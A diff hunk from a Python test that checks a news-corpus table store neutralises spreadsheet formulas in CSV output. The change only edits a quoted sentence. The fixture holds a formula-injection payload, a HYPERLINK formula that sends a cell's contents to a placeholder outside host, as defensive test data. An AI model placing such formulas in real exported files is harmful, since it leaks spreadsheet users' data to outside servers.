@@ -281,7 +281,7 @@ def test_the_table_store_in_csv_neutralises_formulas_and_reads_the_text_back(tmp
     from peacetalks.tables.publish import read_tables
 
     headline = '=HYPERLINK("http://example.invalid/?"&A1,"Envoys Meet in Geneva")'
-    quote = "+Moscow said on Tuesday it would host the peace talks in Geneva."
+    quote = "+Moscow said on Tuesday it would host the peace talks on Syria in Geneva."
     folder = tmp_path / "corpus"
     folder.mkdir()
     (folder / "a.txt").write_text(f"{headline}\n\nMarch 15, 2016\n\n{quote}\n\n-Ankara welcomed the truce, officials said.\n",
